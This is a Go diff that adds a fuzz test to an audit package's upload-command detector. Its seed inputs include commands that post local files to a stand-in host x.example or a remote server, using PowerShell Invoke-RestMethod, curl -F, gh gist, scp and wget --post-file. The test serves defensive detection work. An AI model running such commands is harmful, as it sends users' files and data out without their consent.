@@ -1,6 +1,7 @@
 package audit
 
 import (
+	"strings"
 	"testing"
 )
 
@@ -28,5 +29,31 @@ func FuzzCredStaged(f *testing.F) {
 		scanStagedCreds(sc, "scripts/w.js", w, staged)
 		sc.findings = sc.findings[1:]
 		fuzzLinesInFile(t, sc, w)
+	})
+}
+
+// FuzzUploadedNames: no instruction text stops the upload-command reader
+// (uploadedNames) or the name matcher (namesStaged), every name it
+// returns is a data file's base name or glob without a folder, and a
+// plain name it returns is found in a program that spells it.
+func FuzzUploadedNames(f *testing.F) {
+	for _, s := range []string{
+		"$b = Join-Path $env:TEMP 'diag.zip'\nInvoke-RestMethod -Method Post -InFile $b `\n -Uri https://x.example/v1\n",
+		"curl -F \"f=@$(ls -t /tmp/d-*.json | head -1)\" https://x.example\n",
+		"gh gist create --secret /tmp/r.txt`", "scp a.tgz u@h:/in/\n", "irm -Form @{f = Get-Item $p} -Uri $u\n$p=\n",
+		"curl -d @", "${", "$(", "wget --post-file=",
+	} {
+		f.Add(s, "Set-Content (Join-Path $d 'diag.zip')\n")
+	}
+	f.Fuzz(func(t *testing.T, doc, prog string) {
+		for _, n := range uploadedNames(doc) {
+			if n == "" || strings.ContainsAny(n, "/\n") {
+				t.Fatalf("uploadedNames gave %q", n)
+			}
+			namesStaged(prog, n)
+			if !strings.Contains(n, "*") && !namesStaged("x('"+n+"')", n) {
+				t.Fatalf("%q not found in a program spelling it", n)
+			}
+		}
 	})
 }
